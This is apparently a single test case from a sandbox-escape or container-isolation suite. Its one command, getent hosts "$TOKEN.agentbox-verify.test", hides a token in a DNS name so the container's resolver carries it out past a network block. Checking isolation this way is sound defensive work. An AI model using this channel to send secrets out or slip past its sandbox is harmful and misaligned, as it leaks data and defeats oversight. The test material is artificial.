# says: Hides data in a name that the container's own resolver carries outside.
# stopped by: network
# proof: arrived
# source: DNS labels
timeout 4 getent hosts "$TOKEN.agentbox-verify.test"; true
